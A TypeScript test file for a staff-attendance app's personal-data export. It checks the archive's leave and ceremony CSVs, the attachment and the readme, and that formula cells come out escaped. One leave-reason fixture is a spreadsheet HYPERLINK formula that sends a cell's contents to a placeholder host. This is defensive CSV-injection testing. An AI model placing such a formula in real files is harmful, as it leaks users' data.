import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newId } from '../../db/ids.js';
import { createTestApp, signIn, type Client, type TestApp } from '../../testing/index.js';
import { samplePdf } from '../evidence/samples.js';
import { archiveOf } from './test-support.js';

/**
 * The "my data" archive (issue 20 item 4): leave requests with their attachments, the apel and upacara
 * attended, and every CSV cell that a spreadsheet would run as a formula shown as text.
 */
let t: TestApp;
let dataDir: string;
let staff: Client;
let A: string;
let attachment: Buffer;
let sha: string;

beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'kinerja-my-data-leave-'));
  t = await createTestApp({ dataDir });
  A = t.fixture.agencyIds.A;
  const p = t.fixture.people;
  staff = await signIn(t.app, p.staff1!.nip);
  attachment = samplePdf('Surat keterangan dokter');
  sha = await staff.upload(attachment, 'application/pdf');
  const leave = (employeeId: string, accountId: string, from: string, reason: string, attachmentSha: string | null) =>
    t.ctx.db
      .insertInto('attendance_leave_requests')
      .values({ agency_id: A, id: newId(), request_id: newId(), employee_id: employeeId, type_code: 'CS', part: 'day', starts_on: from, ends_on: from, reason, attachment_sha256: attachmentSha, status: 'approved', approver_employee_id: null, created_at: new Date('2026-11-01T02:00:00Z'), created_by_account_id: accountId })
      .execute();
  await leave(p.staff1!.id, p.staff1!.accountId, '2026-11-10', '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', sha);
  await leave(p.staff2!.id, p.staff2!.accountId, '2026-11-11', 'cuti rekan kerja', null);
  const event = newId();
  await t.ctx.db.insertInto('attendance_events').values({ agency_id: A, id: event, kind: 'upacara', name: '+Upacara Hari Pahlawan', date: '2026-11-10', start_minute: 7 * 60 + 30, end_minute: 8 * 60 + 30, created_at: new Date() }).execute();
  await t.ctx.db.insertInto('attendance_event_attendees').values({ agency_id: A, event_id: event, employee_id: p.staff1!.id, recorded_at: new Date('2026-11-10T00:35:00Z') }).execute();
});
afterAll(async () => {
  await t.close();
  await rm(dataDir, { recursive: true, force: true });
});

describe('my data archive: leave, apel and upacara, formulas', () => {
  it('holds my leave requests with the attachment as uploaded, the upacara I attended, and no cell a spreadsheet would run', async () => {
    const zip = await archiveOf(staff, A, t.fixture.people.staff1!.id);
    const leave = (await zip.file('kehadiran/cuti-izin.csv')!.async('string')).replace(/^\uFEFF/, '').trim().split('\n');
    expect(leave).toHaveLength(2);
    const file = `kehadiran/lampiran/2026-11-10_${sha.slice(0, 8)}.pdf`;
    expect(leave[1]).toContain(file);
    // The reason typed as a formula is text in the CSV: it starts with an apostrophe inside its quotes.
    expect(leave[1]).toContain(`"'=HYPERLINK(`);
    expect(leave.join('\n')).not.toContain('cuti rekan kerja');
    expect(Buffer.compare(await zip.file(file)!.async('nodebuffer'), attachment)).toBe(0);

    const events = (await zip.file('kehadiran/apel-upacara.csv')!.async('string')).trim().split('\n');
    expect(events).toHaveLength(2);
    expect(events[1]).toContain("2026-11-10,upacara,'+Upacara Hari Pahlawan,07:30,08:30,2026-11-10T00:35:00.000Z");

    // No CSV anywhere in the archive has a cell starting with = + - @ unquoted or quoted.
    for (const name of Object.keys(zip.files).filter((n) => n.endsWith('.csv'))) {
      const text = (await zip.file(name)!.async('string')).replace(/^\uFEFF/, '');
      expect(text, name).not.toMatch(/(^|[,\n])"?[=+@]/);
    }
    const readme = await zip.file('BACA-SAYA.txt')!.async('string');
    expect(readme).toContain('kehadiran/cuti-izin.csv');
    expect(readme).toContain('kehadiran/apel-upacara.csv');
  });
});
